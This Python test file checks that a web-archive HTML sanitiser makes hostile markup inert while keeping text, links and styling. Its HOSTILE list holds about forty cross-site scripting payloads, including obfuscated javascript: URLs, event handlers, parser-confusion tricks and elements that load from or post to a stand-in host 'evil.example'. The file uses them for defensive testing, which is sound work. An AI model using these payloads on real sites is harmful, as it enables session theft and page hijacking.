"""Sanitising replayed HTML: hostile markup in, inert markup out, text, links and styling kept."""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import html as lxml_html

from app.archive.css import is_offline
from app.archive.sanitize import sanitize_for_replay

BASE = "https://news.example.org/2026/11/story.html"

HOSTILE = [
    '<script>alert("x")</script>',
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x oNeRrOr=alert(1)//",
    '<body onload="alert(1)">',
    '<p onclick="steal()" onmouseover="steal()">hover</p>',
    '<a href="javascript:alert(1)">js</a>',
    '<a href="  JaVaScRiPt:alert(1)">js</a>',
    '<a href="jav&#x09;ascript:alert(1)">js</a>',
    '<a href="&#106;avascript:alert(1)">js</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<frameset><frame src="https://evil.example/"></frameset>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/steal"><input name="q" autofocus onfocus="x()">'
    '<button formaction="javascript:x()">go</button><textarea>t</textarea></form>',
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<p style="width: expression(alert(1)); background: url(javascript:x)">styled</p>',
    '<div style="behavior: url(x.htc)">b</div>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<svg onload="alert(1)"><script>alert(2)</script><a xlink:href="javascript:x">s</a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    '<a href="https://ok.example/" target="_top" ping="https://evil.example/">ok</a>',
    '<img src="https://ok.example/i.png" srcset="javascript:x 1x">',
    '<video poster="javascript:x"><source src="x.mp4"></video>',
    '<details open ontoggle="alert(1)"><summary>s</summary>d</details>',
    "<template><script>alert(1)</script></template>",
    '<input type="image" src="x" onerror="alert(1)">',
    '<isindex action="javascript:alert(1)">',
    '<x onclick="alert(1)">custom</x>',
    '<table background="javascript:alert(1)"><tr><td>cell</td></tr></table>',
    '<a href="https://ok.example/" id="x" name="y" class="c" data-x="1">attrs</a>',
    '<blockquote cite="javascript:alert(1)">q</blockquote>',
]

ALLOWED_SCHEMES = {"http", "https", "mailto"}
FORBIDDEN_TAGS = {
    "script",
    "style",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "link",
    "meta",
    "base",
    "svg",
    "math",
    "template",
    "noscript",
    "video",
    "source",
    "isindex",
}

FORBIDDEN_ATTRIBUTES = {"srcdoc", "formaction", "srcset", "ping", "background", "poster", "target"}
DATA_PNG = "data:image/png;base64,iVBORw0KGgo="


def assert_inert(clean: str) -> None:
    """Parse the output as a browser would: nothing in it can act or load."""
    if not clean.strip():
        return
    tree = lxml_html.fragment_fromstring(clean, create_parent="div")
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        assert element.tag not in FORBIDDEN_TAGS, clean
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), clean
            assert name.lower() not in FORBIDDEN_ATTRIBUTES, clean
            if name == "src":
                assert value.startswith("data:image/"), clean
            if name in ("href", "cite") and not value.startswith("#"):
                assert urlsplit(value).scheme in ALLOWED_SCHEMES, clean
            if name == "style":
                assert is_offline(value, declarations_only=True), clean
            assert "javascript:" not in value.lower() and "expression(" not in value.lower()
    assert "<script" not in clean.lower() and "<style" not in clean.lower()


@pytest.mark.parametrize("dirty", HOSTILE)
def test_hostile_markup_is_made_inert(dirty: str) -> None:
    assert_inert(sanitize_for_replay(dirty, BASE))


def test_all_of_it_at_once_in_a_whole_document() -> None:
    page = "<!DOCTYPE html><html><head><title>Page title</title>" + "".join(HOSTILE[:5])
    # Some entries leave a raw-text element open (as browsers would, it eats the rest), so the
    # prose goes first.
    page += "</head><body><p>Survivor text.</p>" + "".join(HOSTILE) + "</body></html>"
    clean = sanitize_for_replay(page, BASE)
    assert_inert(clean)
    assert "Survivor text." in clean
    assert "Page title" not in clean  # head content is not body text
    for gone in ("alert", "evil.example", "steal", "msgbox"):
        assert gone not in clean


def test_structure_text_and_links_are_kept() -> None:
    page = (
        "<article><h1>Headline</h1><p>First <strong>bold</strong> and <em>em</em>.</p>"
        "<ul><li>one</li><li>two</li></ul><blockquote>Quoted words</blockquote>"
        '<table><tr><th scope="col">h</th></tr><tr><td colspan="2">cell</td></tr></table>'
        f'<figure><img src="{DATA_PNG}" alt="A photo" width="640"><figcaption>Cap'
        "</figcaption></figure>"
        '<p><a href="https://other.example/report" title="Report">the report</a>, '
        '<a href="../archive/">archive</a>, <a href="#section-2">below</a>, '
        '<a href="mailto:desk@example.org">mail</a>.</p><time datetime="2026-11-20">Nov 20</time>'
        "</article>"
    )
    tree = lxml_html.fragment_fromstring(sanitize_for_replay(page, BASE), create_parent="div")
    assert [h.text for h in tree.iter("h1")] == ["Headline"]
    assert [li.text for li in tree.iter("li")] == ["one", "two"]
    assert tree.find(".//blockquote").text == "Quoted words"
    assert tree.find(".//td").get("colspan") == "2"
    assert tree.find(".//time").get("datetime") == "2026-11-20"
    img = tree.find(".//img")
    assert img.get("src") == DATA_PNG
    assert img.get("alt") == "A photo" and img.get("referrerpolicy") == "no-referrer"
    links = {a.text: a for a in tree.iter("a")}
    assert links["the report"].get("href") == "https://other.example/report"
    assert links["archive"].get("href") == "https://news.example.org/2026/archive/"
    assert links["below"].get("href") == "#section-2"
    assert links["mail"].get("href") == "mailto:desk@example.org"
    for a in links.values():
        assert set(a.get("rel", "").split()) == {"noopener", "noreferrer", "nofollow"}


def test_relative_urls_without_a_base_are_dropped() -> None:
    clean = sanitize_for_replay('<a href="/admin">a</a><blockquote cite="q.html">q</blockquote>')
    assert "href" not in clean and "cite" not in clean
    assert "https://ok.example/" in sanitize_for_replay('<a href="https://ok.example/">k</a>')


def test_replay_keeps_styling_and_data_images_only() -> None:
    page = (
        f'<p class="lede" id="first" data-kind="intro" aria-label="x" style="color: red">a</p>'
        f'<p style="background: url({DATA_PNG})">b</p>'
        '<p style="background: url(https://tracker.example/p.gif)">c</p>'
        "<p style=\"background: image-set('https://tracker.example/a.png' 1x)\">d</p>"
        '<p style="behavior: url(x.htc)">e</p>'
        '<p style="width: expression(alert(1))">f</p>'
        f'<img src="{DATA_PNG}" alt="kept"><img src="https://tracker.example/p.gif" alt="gone">'
        '<img src="data:text/html;base64,PHNjcmlwdD4=" alt="not an image">'
        '<a href="data:text/html,x">data link</a><a href="/story">story</a>'
        '<center><font color="red" face="serif">old</font></center>'
        '<table border="1" cellpadding="2"><tr><td bgcolor="#eee" valign="top">c</td></tr></table>'
    )
    tree = lxml_html.fragment_fromstring(sanitize_for_replay(page, BASE), create_parent="div")
    paragraphs = tree.findall(".//p")
    assert paragraphs[0].attrib == {
        "class": "lede",
        "id": "first",
        "data-kind": "intro",
        "aria-label": "x",
        "style": "color: red",
    }
    assert paragraphs[1].get("style") == f"background: url({DATA_PNG})"
    assert [p.get("style") for p in paragraphs[2:]] == [None, None, None, None]
    images = {img.get("alt"): img.get("src") for img in tree.iter("img")}
    assert images == {"kept": DATA_PNG, "gone": None, "not an image": None}
    links = {a.text: a.get("href") for a in tree.iter("a")}
    assert links == {"data link": None, "story": "https://news.example.org/story"}
    assert tree.find(".//font").attrib == {"color": "red", "face": "serif"}
    assert tree.find(".//td").attrib == {"bgcolor": "#eee", "valign": "top"}


SYNTAX = "<p> </p> <div> </div> text <a href= \" ' > < <!-- --> <![CDATA[ ]]> <svg> <math>"
SYNTAX += " <table> <noscript> </noscript> <style> </style> <title> </title> <textarea>"
FRAGMENTS = st.sampled_from([*HOSTILE, *SYNTAX.split()])


@settings(max_examples=200, deadline=None)
@given(st.lists(FRAGMENTS, max_size=12))
def test_any_mix_of_hostile_fragments_stays_inert(parts: list[str]) -> None:
    clean = sanitize_for_replay("".join(parts), BASE)
    assert_inert(clean)
    assert sanitize_for_replay(clean, BASE) == clean
